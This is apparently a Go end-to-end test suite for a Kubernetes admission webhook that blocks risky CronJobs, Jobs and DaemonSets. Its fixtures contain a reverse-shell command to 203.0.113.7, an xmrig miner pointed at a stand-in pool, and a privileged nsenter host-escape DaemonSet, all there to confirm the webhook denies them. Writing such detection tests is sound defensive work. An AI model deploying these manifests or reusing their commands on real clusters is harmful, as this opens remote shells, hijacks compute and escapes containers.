package e2e_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	auditv1 "k8s.io/apiserver/pkg/apis/audit/v1"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	"sigs.k8s.io/yaml"

	"github.com/jobguard/jobguard/internal/rules"
	"github.com/jobguard/jobguard/internal/testcluster"
	"github.com/jobguard/jobguard/internal/webhook"
)

func TestMain(m *testing.M) {
	// No controller manager: nothing creates objects but the tests. Without it nothing creates the
	// default service accounts either, so the ServiceAccount admission plugin would reject every Pod.
	testcluster.Main(m, testcluster.Options{ExtraAPIServerFlags: []string{"--disable-admission-plugins=ServiceAccount"}})
}

// Names the policy and the webhook configuration of the tests refer to.
const (
	exemptUser          = "e2e-exempt-user"
	jobCreatorsNS       = "e2e-job-creators"
	schedulersGroup     = "e2e:schedulers"
	noWebhookNS         = "e2e-no-webhook" // excluded from the webhook, like jobguard-system
	webhookNS           = "jobguard-system"
	writerClusterRole   = "e2e-workload-writer"
	annotationFindings  = webhook.DefaultWebhookName + "/" + webhook.AuditFindings
	annotationMax       = webhook.DefaultWebhookName + "/" + webhook.AuditMaxSeverity
	annotationExempt    = webhook.DefaultWebhookName + "/" + webhook.AuditExempt
	annotationCreators  = webhook.DefaultWebhookName + "/" + webhook.AuditJobCreators
	deniedByWebhook     = `admission webhook "` + webhook.DefaultWebhookName + `" denied the request: jobguard denied `
	deployWebhookConfig = "../../../deploy/webhook.yaml"
)

// env is the webhook of the test binary, served in process and registered with the cluster.
type env struct {
	c     *testcluster.Cluster
	admin *rest.Config
	cs    kubernetes.Interface
	url   string
	ca    []byte
	reg   *prometheus.Registry
	logs  *syncBuffer
}

var (
	envOnce sync.Once
	shared  *env
	envErr  error
)

// setup starts the cluster and the webhook once, and registers deploy/webhook.yaml pointed at it.
func setup(t *testing.T) *env {
	t.Helper()
	c := testcluster.Shared(t)
	envOnce.Do(func() { shared, envErr = start(c) })
	if envErr != nil {
		t.Fatalf("starting the webhook: %v", envErr)
	}
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("webhook log:\n%s", shared.logs.String())
		}
	})
	return shared
}

func start(c *testcluster.Cluster) (*env, error) {
	e := &env{c: c, admin: c.AdminConfig(), logs: &syncBuffer{}}
	cs, err := kubernetes.NewForConfig(e.admin)
	if err != nil {
		return nil, err
	}
	e.cs = cs
	certDir := filepath.Join(c.Dir(), "jobguard-webhook")
	e.ca, err = webhook.SelfSigned(certDir, "127.0.0.1")
	if err != nil {
		return nil, err
	}
	log := slog.New(slog.NewJSONHandler(e.logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	informer := webhook.NewNamespaceInformer(cs, log)
	informer.Start(context.Background())
	engine, err := rules.New(rules.Options{NamespaceLabels: informer.Labels})
	if err != nil {
		return nil, err
	}
	policy := webhook.DefaultPolicy()
	policy.Exempt.Usernames = []string{exemptUser}
	policy.JobCreators = map[string]webhook.Subjects{jobCreatorsNS: {Users: []string{"alice"}, Groups: []string{schedulersGroup}}}
	if err := policy.Validate(); err != nil {
		return nil, err
	}
	e.reg = prometheus.NewRegistry()
	metrics, err := webhook.NewMetrics(e.reg)
	if err != nil {
		return nil, err
	}
	h := webhook.NewHandler(engine, policy, informer, webhook.HandlerOptions{Logger: log, Metrics: metrics})
	srv, err := webhook.NewServer(h, webhook.ServerOptions{
		CertFile: filepath.Join(certDir, webhook.CertFileName),
		KeyFile:  filepath.Join(certDir, webhook.KeyFileName),
		Gatherer: e.reg,
		Logger:   log,
	})
	if err != nil {
		return nil, err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	go func() { _ = srv.Serve(ln) }()
	e.url = "https://" + ln.Addr().String() + "/validate"
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if !informer.WaitForSync(ctx) {
		return nil, fmt.Errorf("namespaces not synced")
	}

	vwc, err := shippedConfig(e.url, e.ca)
	if err != nil {
		return nil, err
	}
	if _, err := cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, vwc, metav1.CreateOptions{}); err != nil {
		return nil, fmt.Errorf("registering the webhook: %w", err)
	}
	// Namespaces of the fixed names, and who may write workloads.
	for _, ns := range []string{webhookNS, noWebhookNS, jobCreatorsNS} {
		if _, err := cs.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, metav1.CreateOptions{}); err != nil {
			return nil, err
		}
	}
	writer := &rbacv1.ClusterRole{
		ObjectMeta: metav1.ObjectMeta{Name: writerClusterRole},
		Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{"batch"}, Resources: []string{"cronjobs", "jobs"}, Verbs: []string{"get", "create", "update", "patch"}},
			{APIGroups: []string{"apps"}, Resources: []string{"deployments", "daemonsets"}, Verbs: []string{"get", "create", "update", "patch"}},
			{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"get", "create"}},
		},
	}
	if _, err := cs.RbacV1().ClusterRoles().Create(ctx, writer, metav1.CreateOptions{}); err != nil {
		return nil, err
	}
	// The API server reads webhook configurations through an informer: wait until it calls jobguard.
	if err := waitUntil(20*time.Second, func() error {
		_, err := create(e.admin, "default", riskyCronJob, true)
		if err == nil || !strings.Contains(err.Error(), deniedByWebhook) {
			return fmt.Errorf("the webhook is not called yet (last answer: %v)", err)
		}
		return nil
	}); err != nil {
		return nil, err
	}
	return e, nil
}

// shippedConfig is deploy/webhook.yaml with the in-cluster Service replaced by the test's URL and CA,
// and noWebhookNS excluded as well as jobguard-system.
func shippedConfig(url string, ca []byte) (*admissionregistrationv1.ValidatingWebhookConfiguration, error) {
	data, err := os.ReadFile(deployWebhookConfig)
	if err != nil {
		return nil, err
	}
	var vwc admissionregistrationv1.ValidatingWebhookConfiguration
	if err := yaml.UnmarshalStrict(data, &vwc); err != nil {
		return nil, fmt.Errorf("%s: %w", deployWebhookConfig, err)
	}
	vwc.Annotations = nil // cert-manager's injection
	for i := range vwc.Webhooks {
		w := &vwc.Webhooks[i]
		w.ClientConfig = admissionregistrationv1.WebhookClientConfig{URL: &url, CABundle: ca}
		sel := w.NamespaceSelector
		if sel == nil || len(sel.MatchExpressions) != 1 || !slices.Contains(sel.MatchExpressions[0].Values, webhookNS) {
			return nil, fmt.Errorf("%s: the namespaceSelector does not exclude %s", deployWebhookConfig, webhookNS)
		}
		sel.MatchExpressions[0].Values = append(sel.MatchExpressions[0].Values, noWebhookNS)
	}
	return &vwc, nil
}

// Manifests, without namespace (create sets it). The images are pinned and from a private registry,
// so the only findings are those each manifest is about (and the restricted PSS gaps of the risky ones).
const digest = "@sha256:2d4b9b5b2c6b3f4a1e0d9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f"

const riskyCronJob = `apiVersion: batch/v1
kind: CronJob
metadata:
  name: log-rotate
spec:
  schedule: "17 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
          - name: rotate
            image: registry.example.com/tools/alpine` + digest + `
            command: ["/bin/sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
`

const riskyJob = `apiVersion: batch/v1
kind: Job
metadata:
  name: db-migrate
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
      - name: migrate
        image: registry.example.com/tools/migrate` + digest + `
        command: ["/usr/local/bin/xmrig"]
        args: ["-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet", "-t", "4"]
`

const riskyDaemonSet = `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: node-monitor
spec:
  selector:
    matchLabels: {app: node-monitor}
  template:
    metadata:
      labels: {app: node-monitor}
    spec:
      hostPID: true
      containers:
      - name: monitor
        image: registry.example.com/tools/busybox` + digest + `
        command: ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh", "-c", "id"]
        securityContext: {privileged: true}
`

// privilegedCronJob runs a privileged container and nothing malicious: high findings (host-privileged,
// pss-privileged), below the default enforce level.
const privilegedCronJob = `apiVersion: batch/v1
kind: CronJob
metadata:
  name: privileged-report
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
          - name: report
            image: registry.example.com/shop/report` + digest + `
            command: ["/app/report"]
            securityContext: {privileged: true}
`

// rootCronJob breaks only the restricted Pod Security Standard (runs as root, no seccomp profile, no
// capabilities dropped): medium findings at restricted, none at baseline.
const rootCronJob = `apiVersion: batch/v1
kind: CronJob
metadata:
  name: root-report
spec:
  schedule: "0 4 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          automountServiceAccountToken: false
          containers:
          - name: report
            image: registry.example.com/shop/report` + digest + `
            command: ["/app/report"]
`

// cleanPodSpec follows the restricted Pod Security Standard.
const cleanPodSpec = `automountServiceAccountToken: false
securityContext:
  runAsNonRoot: true
  runAsUser: 10001
  seccompProfile: {type: RuntimeDefault}
containers:
- name: app
  image: registry.example.com/shop/report` + digest + `
  command: ["/app/report"]
  securityContext:
    allowPrivilegeEscalation: false
    readOnlyRootFilesystem: true
    capabilities: {drop: [ALL]}
`

func indent(s string, n int) string {
	pad := strings.Repeat(" ", n)
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	for i, l := range lines {
		lines[i] = pad + l
	}
	return strings.Join(lines, "\n") + "\n"
}

var (
	cleanCronJob = `apiVersion: batch/v1
kind: CronJob
metadata:
  name: nightly-report
spec:
  schedule: "30 2 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
` + indent(cleanPodSpec, 10)
	cleanJob = `apiVersion: batch/v1
kind: Job
metadata:
  name: report-once
spec:
  template:
    spec:
      restartPolicy: Never
` + indent(cleanPodSpec, 6)
	cleanDaemonSet = `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: node-agent
spec:
  selector:
    matchLabels: {app: node-agent}
  template:
    metadata:
      labels: {app: node-agent}
    spec:
` + indent(cleanPodSpec, 6)
	cleanDeployment = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  replicas: 2
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
` + indent(cleanPodSpec, 6)
	cleanPod = `apiVersion: v1
kind: Pod
metadata:
  name: debug-target
spec:
` + indent(cleanPodSpec, 2)
	privilegedPod = `apiVersion: v1
kind: Pod
metadata:
  name: privileged-pod
spec:
  containers:
  - name: c
    image: registry.example.com/shop/report` + digest + `
    command: ["/app/report"]
    securityContext: {privileged: true}
`
)

var resources = map[string]schema.GroupVersionResource{
	"CronJob":    {Group: "batch", Version: "v1", Resource: "cronjobs"},
	"Job":        {Group: "batch", Version: "v1", Resource: "jobs"},
	"DaemonSet":  {Group: "apps", Version: "v1", Resource: "daemonsets"},
	"Deployment": {Group: "apps", Version: "v1", Resource: "deployments"},
	"Pod":        {Version: "v1", Resource: "pods"},
}

func decode(manifest string) (*unstructured.Unstructured, schema.GroupVersionResource, error) {
	u := &unstructured.Unstructured{}
	if err := yaml.Unmarshal([]byte(manifest), &u.Object); err != nil {
		return nil, schema.GroupVersionResource{}, err
	}
	gvr, ok := resources[u.GetKind()]
	if !ok {
		return nil, gvr, fmt.Errorf("no resource for kind %s", u.GetKind())
	}
	return u, gvr, nil
}

// warningsOf returns a copy of cfg whose warnings are appended to *w, as kubectl prints them.
func warningsOf(cfg *rest.Config, w *[]string) *rest.Config {
	cfg = rest.CopyConfig(cfg)
	var mu sync.Mutex
	cfg.WarningHandler = warningFunc(func(text string) {
		mu.Lock()
		*w = append(*w, text)
		mu.Unlock()
	})
	return cfg
}

type warningFunc func(string)

func (f warningFunc) HandleWarningHeader(_ int, _ string, text string) { f(text) }

// create creates the manifest in namespace ns as the user of cfg, as `kubectl create` does
// (with --dry-run=server when dryRun), and returns the API server's warnings.
func create(cfg *rest.Config, ns, manifest string, dryRun bool) ([]string, error) {
	var warnings []string
	dyn, err := dynamic.NewForConfig(warningsOf(cfg, &warnings))
	if err != nil {
		return nil, err
	}
	u, gvr, err := decode(manifest)
	if err != nil {
		return nil, err
	}
	opts := metav1.CreateOptions{FieldManager: "e2e"}
	if dryRun {
		opts.DryRun = []string{metav1.DryRunAll}
	}
	_, err = dyn.Resource(gvr).Namespace(ns).Create(context.Background(), u, opts)
	return warnings, err
}

// apply applies the manifest server-side, as `kubectl apply --server-side` does.
func apply(cfg *rest.Config, ns, manifest string) ([]string, error) {
	var warnings []string
	dyn, err := dynamic.NewForConfig(warningsOf(cfg, &warnings))
	if err != nil {
		return nil, err
	}
	u, gvr, err := decode(manifest)
	if err != nil {
		return nil, err
	}
	_, err = dyn.Resource(gvr).Namespace(ns).Apply(context.Background(), u.GetName(), u, metav1.ApplyOptions{FieldManager: "e2e", Force: true})
	return warnings, err
}

// exists reports whether the manifest's object is stored in ns.
func exists(t *testing.T, e *env, ns, manifest string) bool {
	t.Helper()
	dyn, err := dynamic.NewForConfig(e.admin)
	if err != nil {
		t.Fatal(err)
	}
	u, gvr, err := decode(manifest)
	if err != nil {
		t.Fatal(err)
	}
	_, err = dyn.Resource(gvr).Namespace(ns).Get(context.Background(), u.GetName(), metav1.GetOptions{})
	if apierrors.IsNotFound(err) {
		return false
	}
	if err != nil {
		t.Fatal(err)
	}
	return true
}

// namespace creates a namespace with labels, and lets the users write workloads in it.
func namespace(t *testing.T, e *env, name string, labels map[string]string, writers ...rbacv1.Subject) {
	t.Helper()
	ctx := context.Background()
	ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: labels}}
	if _, err := e.cs.CoreV1().Namespaces().Create(ctx, ns, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	if len(writers) > 0 {
		rb := &rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "e2e-writers", Namespace: name},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: writerClusterRole},
			Subjects:   writers,
		}
		if _, err := e.cs.RbacV1().RoleBindings(name).Create(ctx, rb, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
}

func user(name string) rbacv1.Subject {
	return rbacv1.Subject{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: name}
}

func group(name string) rbacv1.Subject {
	return rbacv1.Subject{Kind: rbacv1.GroupKind, APIGroup: rbacv1.GroupName, Name: name}
}

func waitUntil(timeout time.Duration, check func() error) error {
	deadline := time.Now().Add(timeout)
	for {
		err := check()
		if err == nil || time.Now().After(deadline) {
			return err
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func containsAll(t *testing.T, what, s string, want ...string) {
	t.Helper()
	for _, w := range want {
		if !strings.Contains(s, w) {
			t.Errorf("%s does not contain %q:\n%s", what, w, s)
		}
	}
}

func jobguardWarnings(ws []string) []string {
	var out []string
	for _, w := range ws {
		if strings.HasPrefix(w, "jobguard:") {
			out = append(out, w)
		}
	}
	return out
}

func TestRiskyWorkloadsAreDenied(t *testing.T) {
	e := setup(t)
	const ns = "e2e-deny"
	namespace(t, e, ns, nil)
	tests := []struct {
		name, manifest, kind string
		rules                []string
	}{
		{"reverse-shell CronJob", riskyCronJob, "CronJob", []string{"exec-reverse-shell (critical)"}},
		{"miner Job", riskyJob, "Job", []string{"exec-miner (critical)"}},
		{"node-escape DaemonSet", riskyDaemonSet, "DaemonSet", []string{"exec-host-escape (critical)"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := create(e.admin, ns, tt.manifest, false)
			if !apierrors.IsForbidden(err) {
				t.Fatalf("want a Forbidden denial, got %v", err)
			}
			containsAll(t, "the denial", err.Error(), append([]string{deniedByWebhook + tt.kind + " " + ns + "/"}, tt.rules...)...)
			if exists(t, e, ns, tt.manifest) {
				t.Error("the denied object was stored")
			}
		})
	}
}

func TestCleanWorkloadsAreAdmitted(t *testing.T) {
	e := setup(t)
	const ns = "e2e-clean"
	namespace(t, e, ns, nil)
	for _, m := range []string{cleanCronJob, cleanJob, cleanDaemonSet, cleanDeployment, cleanPod} {
		u, _, _ := decode(m)
		t.Run(u.GetKind(), func(t *testing.T) {
			warnings, err := create(e.admin, ns, m, false)
			if err != nil {
				t.Fatal(err)
			}
			if jw := jobguardWarnings(warnings); len(jw) > 0 {
				t.Errorf("warnings for a clean %s: %q", u.GetKind(), jw)
			}
			if !exists(t, e, ns, m) {
				t.Error("not stored")
			}
		})
	}
}

func TestWarnMode(t *testing.T) {
	e := setup(t)
	const ns = "e2e-warn"
	namespace(t, e, ns, map[string]string{webhook.LabelEnforce: "none", webhook.LabelWarn: "medium"})
	warnings, err := create(e.admin, ns, riskyCronJob, false)
	if err != nil {
		t.Fatalf("warn mode must admit: %v", err)
	}
	containsAll(t, "the warnings", strings.Join(warnings, "\n"),
		"jobguard: exec-reverse-shell (critical): ", "jobguard: pss-runAsNonRoot (medium): ")
	if !exists(t, e, ns, riskyCronJob) {
		t.Error("not stored")
	}
}

// auditEvent returns the first ResponseComplete audit event of a create of resource ns/name for which
// match (if not nil) is true, waiting for it.
func auditEvent(t *testing.T, e *env, resource, ns, name string, match func(*auditv1.Event) bool) *auditv1.Event {
	t.Helper()
	var found *auditv1.Event
	err := waitUntil(10*time.Second, func() error {
		f, err := os.Open(e.c.AuditLogPath())
		if err != nil {
			return err
		}
		defer f.Close()
		sc := bufio.NewScanner(f)
		sc.Buffer(make([]byte, 1<<20), 16<<20)
		for sc.Scan() {
			line := sc.Bytes()
			if !bytes.Contains(line, []byte(`"`+name+`"`)) {
				continue
			}
			var ev auditv1.Event
			if err := json.Unmarshal(line, &ev); err != nil {
				return err
			}
			r := ev.ObjectRef
			if ev.Verb == "create" && ev.Stage == auditv1.StageResponseComplete && r != nil && r.Resource == resource && r.Namespace == ns && r.Name == name && (match == nil || match(&ev)) {
				found = &ev
				return nil
			}
		}
		if err := sc.Err(); err != nil {
			return err
		}
		return fmt.Errorf("no audit event for the create of %s %s/%s in %s", resource, ns, name, e.c.AuditLogPath())
	})
	if err != nil {
		t.Fatal(err)
	}
	return found
}

func TestAuditMode(t *testing.T) {
	e := setup(t)
	const ns = "e2e-audit"
	namespace(t, e, ns, map[string]string{webhook.LabelEnforce: "none", webhook.LabelWarn: "none", webhook.LabelAudit: "low"})
	warnings, err := create(e.admin, ns, riskyCronJob, false)
	if err != nil {
		t.Fatalf("audit mode must admit: %v", err)
	}
	if jw := jobguardWarnings(warnings); len(jw) > 0 {
		t.Errorf("warn is off, got %q", jw)
	}
	ev := auditEvent(t, e, "cronjobs", ns, "log-rotate", nil)
	if got := ev.Annotations[annotationMax]; got != "critical" {
		t.Errorf("%s = %q, want critical (annotations %v)", annotationMax, got, ev.Annotations)
	}
	var summary []struct {
		Rule, Severity string
		Count          int
	}
	if err := json.Unmarshal([]byte(ev.Annotations[annotationFindings]), &summary); err != nil {
		t.Fatalf("%s = %q: %v", annotationFindings, ev.Annotations[annotationFindings], err)
	}
	if len(summary) == 0 || summary[0].Rule != "exec-reverse-shell" || summary[0].Severity != "critical" || summary[0].Count != 1 {
		t.Errorf("%s = %+v, want exec-reverse-shell first", annotationFindings, summary)
	}
	if ev.ResponseStatus == nil || ev.ResponseStatus.Code != 201 {
		t.Errorf("response status %+v, want 201 Created", ev.ResponseStatus)
	}
}

func TestExemptUserIsAdmitted(t *testing.T) {
	e := setup(t)
	const ns = "e2e-exempt"
	namespace(t, e, ns, map[string]string{webhook.LabelEnforce: "low"}, user(exemptUser), user("mallory"))
	// Someone else is denied, to show the namespace enforces.
	if _, err := create(e.c.ConfigFor("mallory"), ns, riskyCronJob, false); err == nil || !strings.Contains(err.Error(), deniedByWebhook) {
		t.Fatalf("mallory: want a denial, got %v", err)
	}
	if _, err := create(e.c.ConfigFor(exemptUser), ns, riskyCronJob, false); err != nil {
		t.Fatalf("the exempt user is denied: %v", err)
	}
	ev := auditEvent(t, e, "cronjobs", ns, "log-rotate", func(ev *auditv1.Event) bool {
		return ev.ImpersonatedUser != nil && ev.ImpersonatedUser.Username == exemptUser
	})
	if ev.ResponseStatus == nil || ev.ResponseStatus.Code != 201 {
		t.Errorf("response status %+v, want 201 Created", ev.ResponseStatus)
	}
	containsAll(t, "the exempt annotation", ev.Annotations[annotationExempt], "user "+exemptUser+" is exempt")
}

// TestJobCreators uses users authenticated by client certificates of their own (not impersonation).
func TestJobCreators(t *testing.T) {
	e := setup(t)
	ns := jobCreatorsNS
	namespace(t, e, ns, nil, user("alice"), user("bob"), group(schedulersGroup))
	configFor := func(name string, groups ...string) *rest.Config {
		path, err := e.c.KubeconfigFor(name, groups...)
		if err != nil {
			t.Fatal(err)
		}
		cfg, err := clientcmd.BuildConfigFromFlags("", path)
		if err != nil {
			t.Fatal(err)
		}
		return cfg
	}
	alice, bob, carol := configFor("alice"), configFor("bob", "e2e:developers"), configFor("carol", schedulersGroup)

	if _, err := create(alice, ns, cleanCronJob, false); err != nil {
		t.Errorf("alice (allowed by name): %v", err)
	}
	_, err := create(bob, ns, strings.Replace(cleanCronJob, "nightly-report", "bobs-report", 1), false)
	if !apierrors.IsForbidden(err) {
		t.Fatalf("bob: want a denial, got %v", err)
	}
	containsAll(t, "bob's denial", err.Error(), deniedByWebhook, "user bob may not create CronJobs in namespace "+ns+" (jobguard job-creators policy)")
	if _, err := create(bob, ns, cleanJob, false); err == nil || !strings.Contains(err.Error(), "may not create Jobs") {
		t.Errorf("bob's Job: want a denial, got %v", err)
	}
	if _, err := create(carol, ns, strings.Replace(cleanCronJob, "nightly-report", "carols-report", 1), false); err != nil {
		t.Errorf("carol (allowed by group): %v", err)
	}
	if _, err := create(bob, ns, cleanDeployment, false); err != nil {
		t.Errorf("bob's Deployment (not restricted): %v", err)
	}
	// Bob may not change alice's CronJob either, and the audit log records why.
	_, err = apply(bob, ns, strings.Replace(cleanCronJob, `"30 2 * * *"`, `"*/5 * * * *"`, 1))
	if err == nil || !strings.Contains(err.Error(), "user bob may not change CronJobs") {
		t.Errorf("bob's change of a CronJob: want a denial, got %v", err)
	}
	ev := auditEvent(t, e, "cronjobs", ns, "bobs-report", nil)
	containsAll(t, "the job-creators annotation", ev.Annotations[annotationCreators], "user bob may not create CronJobs")
	if ev.User.Username != "bob" {
		t.Errorf("audit user %q, want bob (client certificate)", ev.User.Username)
	}
}

// TestPodSecurityLevelFromNamespace: the namespace's pod-security.kubernetes.io/enforce label chooses
// the PSS level the webhook judges at, so a CronJob whose pods Pod Security Admission would refuse is
// refused when it is created. Without the webhook, PSA stores it with a warning and refuses its pods.
func TestPodSecurityLevelFromNamespace(t *testing.T) {
	e := setup(t)
	baselineHigh := map[string]string{"pod-security.kubernetes.io/enforce": "baseline", webhook.LabelEnforce: "high"}
	restrictedMedium := map[string]string{"pod-security.kubernetes.io/enforce": "restricted", webhook.LabelEnforce: "medium"}
	baselineMedium := map[string]string{"pod-security.kubernetes.io/enforce": "baseline", webhook.LabelEnforce: "medium"}
	namespace(t, e, "e2e-pss-baseline-high", baselineHigh)
	namespace(t, e, "e2e-pss-restricted-medium", restrictedMedium)
	namespace(t, e, "e2e-pss-baseline-medium", baselineMedium)

	tests := []struct {
		name, ns, manifest string
		denied             []string // rule IDs in the denial; nil: admitted
	}{
		{"privileged at baseline", "e2e-pss-baseline-high", privilegedCronJob, []string{"host-privileged (high)", "pss-privileged (high)"}},
		{"root at restricted", "e2e-pss-restricted-medium", rootCronJob, []string{"pss-runAsNonRoot (medium)", "pss-seccompProfile_restricted (medium)"}},
		{"root at baseline", "e2e-pss-baseline-medium", rootCronJob, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			warnings, err := create(e.admin, tt.ns, tt.manifest, false)
			if tt.denied == nil {
				if err != nil {
					t.Fatalf("want admitted: %v", err)
				}
				if jw := jobguardWarnings(warnings); len(jw) > 0 {
					t.Errorf("no finding expected at baseline, got %q", jw)
				}
				return
			}
			if !apierrors.IsForbidden(err) {
				t.Fatalf("want a denial, got %v", err)
			}
			containsAll(t, "the denial", err.Error(), tt.denied...)
			level := tt.ns[len("e2e-pss-"):strings.LastIndex(tt.ns, "-")]
			containsAll(t, "the denial", err.Error(), `violates PodSecurity "`+level+`:latest"`)
		})
	}

	// Pod Security Admission alone (the namespace is not sent to the webhook): the CronJob is stored
	// with a warning; its pods would be refused.
	t.Run("PSA alone", func(t *testing.T) {
		ctx := context.Background()
		ns, err := e.cs.CoreV1().Namespaces().Get(ctx, noWebhookNS, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		ns.Labels["pod-security.kubernetes.io/enforce"] = "baseline"
		ns.Labels[webhook.LabelEnforce] = "high" // ignored: the webhook is not called here
		if _, err := e.cs.CoreV1().Namespaces().Update(ctx, ns, metav1.UpdateOptions{}); err != nil {
			t.Fatal(err)
		}
		warnings, err := create(e.admin, noWebhookNS, privilegedCronJob, false)
		if err != nil {
			t.Fatalf("PSA refused the CronJob: %v", err)
		}
		containsAll(t, "PSA's warning", strings.Join(warnings, "\n"), `would violate PodSecurity "baseline:latest": privileged`)
		if !exists(t, e, noWebhookNS, privilegedCronJob) {
			t.Error("the CronJob was not stored")
		}
		_, err = create(e.admin, noWebhookNS, privilegedPod, false)
		if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), `violates PodSecurity "baseline:latest": privileged`) {
			t.Errorf("PSA must refuse the Pod: %v", err)
		}
	})
}

func TestDryRun(t *testing.T) {
	e := setup(t)
	const ns = "e2e-dry-run"
	namespace(t, e, ns, nil)
	before := counter(t, e, "jobguard_webhook_requests_total", map[string]string{"dry_run": "true", "kind": "CronJob", "code": "403"})
	_, err := create(e.admin, ns, riskyCronJob, true)
	if !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), deniedByWebhook) || !strings.Contains(err.Error(), "exec-reverse-shell") {
		t.Fatalf("dry run: want the same denial, got %v", err)
	}
	if _, err := create(e.admin, ns, cleanCronJob, true); err != nil {
		t.Fatalf("clean dry run: %v", err)
	}
	if exists(t, e, ns, cleanCronJob) {
		t.Error("a dry run stored the object")
	}
	if after := counter(t, e, "jobguard_webhook_requests_total", map[string]string{"dry_run": "true", "kind": "CronJob", "code": "403"}); after != before+1 {
		t.Errorf("dry-run denials counted %v, want %v", after, before+1)
	}
}

// counter sums the metric's samples whose labels include want.
func counter(t *testing.T, e *env, name string, want map[string]string) float64 {
	t.Helper()
	mfs, err := e.reg.Gather()
	if err != nil {
		t.Fatal(err)
	}
	var sum float64
	for _, mf := range mfs {
		if mf.GetName() != name {
			continue
		}
	metrics:
		for _, m := range mf.GetMetric() {
			labels := map[string]string{}
			for _, l := range m.GetLabel() {
				labels[l.GetName()] = l.GetValue()
			}
			for k, v := range want {
				if labels[k] != v {
					continue metrics
				}
			}
			sum += m.GetCounter().GetValue()
		}
	}
	return sum
}

func TestUpdates(t *testing.T) {
	e := setup(t)
	const ns = "e2e-update"
	namespace(t, e, ns, map[string]string{webhook.LabelEnforce: "high"})
	if _, err := apply(e.admin, ns, cleanDeployment); err != nil {
		t.Fatal(err)
	}
	relabelled := strings.Replace(cleanDeployment, "name: web\n", "name: web\n  labels: {team: shop}\n", 1)
	if _, err := apply(e.admin, ns, relabelled); err != nil {
		t.Errorf("a metadata-only change: %v", err)
	}
	privileged := strings.Replace(relabelled, "allowPrivilegeEscalation: false", "privileged: true", 1)
	_, err := apply(e.admin, ns, privileged)
	if !apierrors.IsForbidden(err) {
		t.Fatalf("an update that makes the pod privileged: want a denial, got %v", err)
	}
	containsAll(t, "the denial", err.Error(), deniedByWebhook+"Deployment "+ns+"/web", "host-privileged (high)")
	// Server-side apply of a new object is a CREATE for admission.
	if _, err := apply(e.admin, ns, riskyDaemonSet); err == nil || !strings.Contains(err.Error(), "exec-host-escape") {
		t.Errorf("server-side apply of a risky DaemonSet: want a denial, got %v", err)
	}
}

func TestEphemeralContainers(t *testing.T) {
	e := setup(t)
	const ns = "e2e-ephemeral"
	namespace(t, e, ns, map[string]string{webhook.LabelEnforce: "high"})
	if _, err := create(e.admin, ns, cleanPod, false); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	pod, err := e.cs.CoreV1().Pods(ns).Get(ctx, "debug-target", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	privileged := true
	pod.Spec.EphemeralContainers = append(pod.Spec.EphemeralContainers, corev1.EphemeralContainer{
		EphemeralContainerCommon: corev1.EphemeralContainerCommon{
			Name: "debugger", Image: "registry.example.com/tools/debug" + digest, Command: []string{"/bin/sh"},
			SecurityContext: &corev1.SecurityContext{Privileged: &privileged},
		},
		TargetContainerName: "app",
	})
	_, err = e.cs.CoreV1().Pods(ns).UpdateEphemeralContainers(ctx, "debug-target", pod, metav1.UpdateOptions{})
	if !apierrors.IsForbidden(err) {
		t.Fatalf("a privileged ephemeral container: want a denial, got %v", err)
	}
	containsAll(t, "the denial", err.Error(), deniedByWebhook+"Pod "+ns+"/debug-target", "host-privileged (high)", `"debugger"`)
}

